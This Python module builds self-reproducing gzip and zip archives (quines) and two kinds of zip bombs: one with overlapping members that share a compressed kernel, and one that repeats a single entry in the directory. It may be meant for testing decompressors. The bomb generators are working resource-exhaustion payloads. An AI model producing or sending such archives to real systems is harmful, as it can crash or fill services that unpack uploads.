"""Archives that hold themselves, byte for byte, and one whose members lie inside one another.

A deflate stream is a program of two instructions: write these bytes (a stored block), write again what was
written n bytes ago (a block with one or two matches). A program that writes itself is put together from them
as any self-printing program is; every instruction is five bytes long, so that the program can count itself.
What a gzip file and a zip say of their own checksum is solved for: a CRC-32 is linear in every bit.
"""

import struct
import zlib
from collections.abc import Callable

_UNIT = 5  # bytes of an instruction
_END = b"\x01\0\0\xff\xff"  # an empty stored block, the last


def stored(length: int) -> bytes:
    """The instruction to write the ``length`` bytes that follow it."""
    return struct.pack("<BHH", 0, length, length ^ 0xFFFF)


def _repeat(length: int) -> bytes:
    """The instruction to write the last ``length`` bytes again; only some lengths fill its five bytes.

    A block of fixed codes: two matches of ten bytes at a distance below 33, or one of 258, and an empty block
    to fill the rest.
    """
    bits = "010"  # not the last block; fixed codes
    distance = _distance(length)
    if 17 <= length <= 20:
        first = length - 10
        bits += _short(first) + distance + _short(10) + distance + "0" * 7
    elif length == 258:
        bits += "11000101" + distance + "0" * 7 + "010" + "0" * 7
    else:
        raise ValueError(length)
    return _packed(bits)


def _short(length: int) -> str:
    """The code of a match of 3 to 10 bytes."""
    return format(length - 2, "07b")


def _distance(distance: int) -> str:
    """The code of a distance with its extra bits, the lowest of which comes first."""
    extra = (distance - 1).bit_length() - 2
    first = (distance - 1) >> extra & 1
    code = 2 * (extra + 1) + first
    rest = (distance - 1) & ((1 << extra) - 1)
    return format(code, "05b") + format(rest, f"0{extra}b")[::-1]


def _packed(bits: str) -> bytes:
    """Bits as deflate packs them: the first is the lowest of its byte."""
    return bytes(int(bits[at : at + 8][::-1], 2) for at in range(0, len(bits), 8))


def _program(head: bytes, tail: bytes) -> bytes:
    """``head``, a deflate stream, and ``tail``: what the stream writes is all of it.

    ``tail`` begins with the stream's last block. Both are so long that ``_repeat`` can repeat them with the
    instruction beside them.
    """
    l0, l1, l4, r4 = stored(0), stored(_UNIT), stored(4 * _UNIT), _repeat(4 * _UNIT)
    write_head, repeat_head = stored(len(head) + _UNIT), _repeat(len(head) + _UNIT)
    write_tail, repeat_tail = stored(len(tail) + _UNIT), _repeat(len(tail) + _UNIT)
    return b"".join((
        *(head, write_head, head, write_head, repeat_head),
        *(l1, repeat_head, l1, l1),
        *(l4, repeat_head, l1, l1, l4, r4),
        *(l4, r4, l4, r4, l4, r4),
        *(l4, r4, l0, l0, write_tail, r4),
        *(l0, l0, write_tail, repeat_tail, tail, repeat_tail, tail),
    ))  # fmt: skip


def _with_own_checksum(build: Callable[[int], bytes]) -> bytes | None:
    """What ``build`` makes of the CRC-32 that the outcome has; None where there is none."""
    zero = zlib.crc32(build(0))
    # Bit i of the checksum that is written changes these bits of the one that comes out, and itself.
    rows = [(zlib.crc32(build(1 << bit)) ^ zero ^ (1 << bit), 1 << bit) for bit in range(32)]
    wanted, found = zero, 0
    for bit in range(32):
        pivot = next((row for row in rows if row[0] >> bit & 1), None)
        if pivot is None:
            if wanted >> bit & 1:
                return None
            continue
        rows = [
            (row[0] ^ pivot[0], row[1] ^ pivot[1]) if row[0] >> bit & 1 else row
            for row in rows
            if row is not pivot
        ]
        if wanted >> bit & 1:
            wanted, found = wanted ^ pivot[0], found ^ pivot[1]
    return build(found)


def gzip_quine() -> bytes:
    """A gzip file that unpacks to itself."""

    def build(checksum: int, length: int, stamp: int) -> bytes:
        head = b"\x1f\x8b\x08\x08" + struct.pack("<I", stamp) + b"\2\3q.gz\0"
        return _program(head, _END + struct.pack("<II", checksum, length))

    return _solved(build)


def zip_quine(name: str = "quine.zip") -> bytes:
    """A zip whose one member, ``name``, is the zip."""
    encoded = name.encode()

    def build(checksum: int, length: int, stamp: int) -> bytes:
        fields = struct.pack("<HHHHHI", 20, 0, 8, stamp & 0xFFFF, 0x5A21, checksum)
        padding = 253 - 30 - len(encoded) - 4
        extra = struct.pack("<HH", 0x4141, padding) + bytes(padding)
        packed = length - 253 - (253 - len(_END))
        sizes = struct.pack("<IIH", packed, length, len(encoded))
        head = b"PK\3\4" + fields + sizes + struct.pack("<H", len(extra)) + encoded + extra
        central = b"PK\1\2\x14\0" + fields + sizes + bytes(16) + encoded
        comment = bytes(253 - len(_END) - len(central) - 22)
        ends = struct.pack(
            "<HHHHIIH", 0, 0, 1, 1, len(central), length - 22 - len(comment) - len(central), len(comment)
        )
        return _program(head, _END + central + b"PK\5\6" + ends + comment)

    return _solved(build)


def _solved(build: Callable[[int, int, int], bytes]) -> bytes:
    length = len(build(0, 4096, 0))
    for stamp in range(64):
        found = _with_own_checksum(lambda checksum, stamp=stamp: build(checksum, length, stamp))  # type: ignore[misc]
        if found is not None:
            return found
    raise AssertionError("no checksum fits")


def quoting_bomb(members: int, kernel: int) -> bytes:
    """A zip of ``members`` files, each of which holds all that come behind it: they share one packed kernel.

    Each member begins with a stored block that quotes the next one's local header, and goes on in that one's
    own data, so that every byte of the kernel is unpacked by all of them. ``kernel``: bytes of zeros.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = bytes(kernel)
    packed = packer.compress(zeros) + packer.flush()
    checksum, size = zlib.crc32(zeros), kernel
    plain, entries = zeros, list[tuple[bytes, bytes]]()
    body = b""
    for number in range(members):
        name = f"{number:04d}.bin".encode()
        fields = struct.pack("<HHHHHIIIH", 20, 0, 8, 0, 0x5A21, checksum, len(packed), size, len(name))
        header = b"PK\3\4" + fields + b"\0\0" + name
        entries.append((b"PK\1\2\x14\0" + fields + bytes(12), name))
        body = header + packed
        packed = stored(len(header)) + body
        plain = header + plain
        checksum, size = zlib.crc32(plain), len(plain)
    return _directory(body, entries)


def sharing_bomb(members: int, kernel: int) -> bytes:
    """A zip of ``members`` entries that are the same bytes, under one name."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = bytes(kernel)
    packed = packer.compress(zeros) + packer.flush()
    fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x5A21, zlib.crc32(zeros), len(packed), kernel)
    body = b"PK\3\4" + fields + struct.pack("<HH", 8, 0) + b"0000.bin" + packed
    entry = b"PK\1\2\x14\0" + fields + struct.pack("<H", 8) + bytes(16) + b"0000.bin"
    directory = entry * members
    ends = struct.pack("<HHHHIIH", 0, 0, members, members, len(directory), len(body), 0)
    return body + directory + b"PK\5\6" + ends


def _directory(body: bytes, entries: list[tuple[bytes, bytes]]) -> bytes:
    """``body``, in which headers lie one inside another, the last of ``entries`` first; and its directory."""
    offset, central = 0, b""
    for start, name in reversed(entries):
        central += start + struct.pack("<I", offset) + name
        offset += 30 + len(name) + _UNIT
    ends = struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(central), len(body), 0)
    return body + central + b"PK\5\6" + ends
